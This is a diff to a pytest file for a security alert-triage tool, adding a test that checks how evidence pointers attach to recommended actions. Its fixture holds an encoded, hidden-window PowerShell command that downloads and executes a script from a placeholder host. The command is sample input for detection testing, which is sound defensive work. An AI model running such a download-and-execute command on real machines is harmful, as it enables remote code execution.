@@ -1,6 +1,7 @@
 """Playbooks: the shipped files hold together, wrong ones are refused, actions say why and how."""
 
 import re
+from base64 import b64encode
 from collections.abc import Mapping
 
 import pytest
@@ -15,6 +16,7 @@ from tocsin.model import (
     Event,
     NetworkDirection,
     ObservableRole,
+    Process,
     ResponsePhase,
     Rule,
     Threat,
@@ -122,6 +124,26 @@ def test_an_action_points_at_the_evidence_that_asks_for_it() -> None:
     assert done["isolate_host"].undo
     assert done["isolate_host"].countermeasures == ("D3-NI",)
     assert [a.priority for a in verdict.recommended_actions] == list(range(1, len(done) + 1))
+
+
+def test_many_findings_in_one_place_are_one_pointer() -> None:
+    encoded = b64encode(
+        "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')".encode("utf-16le")
+    )
+    alert = Alert(
+        title="Suspicious PowerShell",
+        rule=Rule(name="Suspicious PowerShell"),
+        process=Process(
+            name="powershell.exe",
+            command_line=f"powershell -nop -w hidden -enc {encoded.decode()}",
+        ),
+    )
+    verdict = triage(dossier("unknown", alert, None))
+    places = [item.pointer for item in verdict.evidence if item.weight > 0]
+    assert len(places) > len(set(places))
+    tied = [action.evidence for action in verdict.recommended_actions if action.evidence]
+    assert tied
+    assert all(len(set(pointers)) == len(pointers) for pointers in tied)
 
 
 def test_what_is_harmless_points_at_what_lowered_it() -> None:
